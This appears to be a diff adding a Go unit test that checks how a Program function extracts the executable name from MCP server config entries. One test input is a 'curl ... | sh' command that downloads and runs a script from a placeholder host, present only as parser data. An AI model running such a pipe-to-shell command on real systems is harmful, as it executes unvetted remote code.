@@ -193,3 +193,18 @@ func TestRedactURL(t *testing.T) {
 		t.Errorf("RedactURL = %s", got)
 	}
 }
+
+func TestProgram(t *testing.T) {
+	for _, c := range []struct{ src, want string }{
+		{`{"mcpServers":{"s":{"command":"/Users/x/Library/Application Support/tool/server","args":["--stdio"]}}}`, "/Users/x/Library/Application Support/tool/server"},
+		{`{"mcpServers":{"s":{"command":"npx -y pkg --token abc"}}}`, "npx"},
+		{`{"mcpServers":{"s":{"command":"'/opt/my tools/server' --token abc"}}}`, "/opt/my tools/server"},
+		{`{"mcpServers":{"s":{"command":"curl -s https://x.example/i.sh | sh"}}}`, "curl"},
+		{`{"mcpServers":{"s":{"url":"https://x.example/mcp"}}}`, ""},
+	} {
+		f := config.Parse(".mcp.json", []byte(c.src))
+		if got := Program(f.Servers[0]); got != c.want {
+			t.Errorf("%s: %q, want %q", c.src, got, c.want)
+		}
+	}
+}
